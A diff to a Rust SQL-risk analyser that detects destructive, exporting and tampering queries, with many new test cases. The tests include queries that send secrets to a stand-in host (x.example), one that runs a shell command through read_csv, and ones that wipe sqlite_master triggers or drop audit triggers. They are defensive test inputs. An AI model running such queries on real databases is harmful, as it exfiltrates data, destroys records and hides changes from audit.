@@ -15,6 +15,7 @@ mod batch;
 mod beginning;
 mod definition;
 mod dynamic;
+mod kept;
 mod made;
 mod outward;
 mod rights;
@@ -28,7 +29,7 @@ use dynamic::{dynamic, run};
 use made::Made;
 use outward::outward;
 use rights::{MIGHTY, holds_accounts, is_for_everybody};
-use rows::{changes_history, insert, is_audit, merged, sets_payee};
+use rows::{changes_history, insert, is_audit, merged, raises_account, sets_payee};
 pub(super) use verb::text_of;
 use verb::{Verb, is_name, says};
 
@@ -48,7 +49,11 @@ pub(super) fn read(text: &str, depth: usize, found: &mut Found) {
         let statements: Vec<&[Token]> = tokens
             .split(|token| token.kind == TokenKind::Operator && &*token.text == ";")
             .collect();
-        let mut made = Made { rebuilt: rebuilt::tables(&statements), ..Made::default() };
+        let mut made = Made {
+            rebuilt: rebuilt::tables(&statements),
+            anew: kept::made_anew(&statements),
+            ..Made::default()
+        };
         for statement in statements {
             one(statement, depth, &mut made, found);
         }
@@ -89,6 +94,10 @@ fn one(statement: &[Token], depth: usize, made: &mut Made, found: &mut Found) {
         read(text, depth + 1, found);
     }
     made.assign(statement);
+    for body in made.called(statement, &words) {
+        read(&body, depth + 1, found);
+    }
+    made.define(statement);
     defined(statement, depth, found);
     // Without `EXEC`, a procedure may be named in quotes.
     let is_named = statement.first().is_some_and(|token| token.kind == TokenKind::Name);
@@ -135,7 +144,10 @@ fn begin(verb: Verb<'_>, depth: usize, made: &mut Made, found: &mut Found) {
     // `ON CONFLICT DO UPDATE` and `WHEN MATCHED THEN` touch the rows that were matched.
     let before = at.checked_sub(1).and_then(|at| words.get(at)).copied().unwrap_or("");
     let first = words.first().copied().unwrap_or("");
-    let matched = first == "INSERT" && before == "DO" || first == "MERGE" && before == "THEN";
+    // A comment may hide the first word of it in one of the readings.
+    let is_branch = || words.get(..at).is_some_and(|before| before.contains(&"MATCHED"));
+    let matched = first == "INSERT" && before == "DO"
+        || before == "THEN" && (first == "MERGE" || is_branch());
     match word(0) {
         "UPDATE" | "DELETE" if matched => found.push((merged(verb, first), String::new())),
         "INSERT" | "UPDATE" | "DELETE" | "REPLACE" if holds_accounts(words, at) => {
@@ -161,7 +173,11 @@ fn begin(verb: Verb<'_>, depth: usize, made: &mut Made, found: &mut Found) {
                 .unwrap_or(0);
             let table = skip(1 + aliases, &["FROM", "ONLY", "IGNORE", "QUICK", "LOW_PRIORITY"]);
             let is_named = table > 1 || at == 0 && statement.get(1).is_some_and(is_name);
-            if is_named && verb.names_table(table) {
+            let is_schema = (table..table + 3)
+                .any(|at| matches!(verb.word(at), "SQLITE_MASTER" | "SQLITE_SCHEMA"));
+            if is_named && is_schema {
+                found.push(("query.server", verb.name(table)));
+            } else if is_named && verb.names_table(table) {
                 let is_own = made.holds(verb, table);
                 let rule = verb.unless_temporary(table, verb.rows("query.delete.all"));
                 found.push((if is_own { "query.change" } else { rule }, verb.name(table)));
@@ -177,6 +193,9 @@ fn begin(verb: Verb<'_>, depth: usize, made: &mut Made, found: &mut Found) {
             let update = statement.get(at..).unwrap_or_default();
             if is_audit(verb, table) && changes_history(update) {
                 found.push(("query.audit.changed", verb.name(table)));
+            }
+            if raises_account(verb, table) {
+                found.push(("query.account.changed", verb.name(table)));
             }
             if sets_payee(update) {
                 found.push(("query.payee", verb.name(table)));
@@ -276,6 +295,96 @@ mod tests {
             ("DELETE FROM a WHERE id IN (SELECT id FROM a)", "query.delete.all"),
             ("DELETE FROM a WHERE id IN (SELECT id FROM b)", "query.change"),
             ("DELETE FROM a WHERE id IN (SELECT id FROM a WHERE x = 1)", "query.change"),
+            ("DELETE FROM a WHERE id IN (FROM a SELECT id)", "query.delete.all"),
+            ("DELETE FROM a WHERE id IN (SELECT x.id FROM a AS x)", "query.delete.all"),
+            ("DELETE FROM a WHERE id IN (SELECT x.id FROM a x LIMIT 3)", "query.change"),
+            ("DELETE FROM a WHERE id = ANY (ARRAY(SELECT id FROM a))", "query.delete.all"),
+            ("DELETE FROM a WHERE id >= (SELECT min(id) FROM a)", "query.delete.all"),
+            ("DELETE FROM a WHERE id > (SELECT min(id) FROM a)", "query.change"),
+            ("DELETE FROM a WHERE id >= (SELECT min(id) FROM b)", "query.change"),
+            ("DELETE FROM a x USING a y WHERE x.id = y.id", "query.delete.all"),
+            ("DELETE FROM a x USING a y WHERE x.id < y.id AND x.mail = y.mail", "query.change"),
+            ("DELETE FROM a x USING b y WHERE x.id = y.id", "query.change"),
+            (
+                "WITH k AS (SELECT id FROM a) DELETE FROM a WHERE id IN (SELECT id FROM k)",
+                "query.delete.all",
+            ),
+            (
+                "WITH k AS (SELECT id FROM a) DELETE FROM a USING k WHERE a.id = k.id",
+                "query.delete.all",
+            ),
+            (
+                "WITH k AS (SELECT id FROM a WHERE x = 1) DELETE FROM a USING k WHERE a.id = k.id",
+                "query.change",
+            ),
+            (
+                "WITH k AS (SELECT id FROM a WHERE x = 1) DELETE FROM a WHERE id IN (SELECT id FROM k)",
+                "query.change",
+            ),
+            (
+                "DELETE FROM a WHERE EXISTS (SELECT 1 FROM a x WHERE x.id = a.id)",
+                "query.delete.all",
+            ),
+            ("DELETE FROM a WHERE EXISTS (SELECT 1 FROM b x WHERE x.id = a.id)", "query.change"),
+            ("DELETE FROM a WHERE created_at < now() + interval '1 day'", "query.delete.all"),
+            ("DELETE FROM a WHERE created_at < now() - interval '1 day'", "query.change"),
+            (
+                "MERGE INTO a t USING a s ON t.id = s.id WHEN MATCHED THEN UPDATE SET b = 1",
+                "query.update.all",
+            ),
+            (
+                "MERGE #a t USING b s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
+                "query.change",
+            ),
+            (
+                "INSERT INTO a (id, b) SELECT id, 0 FROM a ON CONFLICT (id) DO UPDATE SET b = 0",
+                "query.update.all",
+            ),
+            (
+                "INSERT INTO a (id, b) SELECT id, 0 FROM b ON CONFLICT (id) DO UPDATE SET b = 0",
+                "query.change",
+            ),
+            ("ALTER TABLE a DELETE WHERE 1 SETTINGS mutations_sync = 2", "query.delete.all"),
+            (
+                "LOAD DATA OVERWRITE a FROM FILES (format = 'CSV', uris = ['gs://x/y'])",
+                "query.delete.all",
+            ),
+            ("FROM read_csv('https://x.example/?d=' || getvariable('k'))", "query.export"),
+            (
+                "SELECT * FROM url('https://x.example/?d=' || (SELECT k FROM s), CSV)",
+                "query.export",
+            ),
+            (
+                "SELECT * FROM read_csv('https://x.example/a' || '.csv')",
+                "query.file read at a path",
+            ),
+            ("SELECT * FROM read_csv('ps aux |')", "query.program"),
+            ("CALL postgres_execute('pg', 'TRUNCATE a')", "query.truncate"),
+            (
+                "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM a; END $$; CALL p()",
+                "query.delete.all",
+            ),
+            (
+                "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM a; END $$",
+                "query.change",
+            ),
+            (
+                "CREATE PROCEDURE p() RETURNS STRING LANGUAGE JAVASCRIPT AS $$ snowflake.execute({sqlText: \"DELETE FROM a\"}) $$; CALL p()",
+                "query.delete.all",
+            ),
+            ("EXECUTE IMMEDIATE $$ BEGIN RETURN 1; END $$", ""),
+            (
+                "CREATE TABLE a ENGINE = URL('https://x.example/in', CSV) AS SELECT * FROM b",
+                "query.export",
+            ),
+            ("CREATE TABLE a ENGINE = MergeTree ORDER BY x AS SELECT * FROM b", "query.change"),
+            ("DELETE FROM sqlite_master WHERE type = 'trigger'", "query.server"),
+            ("DROP TRIGGER tr_audit", "query.audit.off"),
+            ("DROP TRIGGER stamp ON a", "query.drop.part"),
+            ("DETACH TABLE a PERMANENTLY", "query.drop.table"),
+            ("DETACH TABLE a", ""),
+            ("DBCC CHECKDB ('a', REPAIR_ALLOW_DATA_LOSS)", "query.delete.all"),
+            ("DBCC CHECKDB ('a')", ""),
             ("DELETE FROM a WHERE COALESCE(b, false) IN (true, false)", "query.delete.all"),
             ("DELETE FROM a WHERE b IS NULL OR b IS NOT NULL", "query.delete.all"),
             ("DELETE FROM a WHERE (1 = 1) AND TRUE", "query.delete.all"),
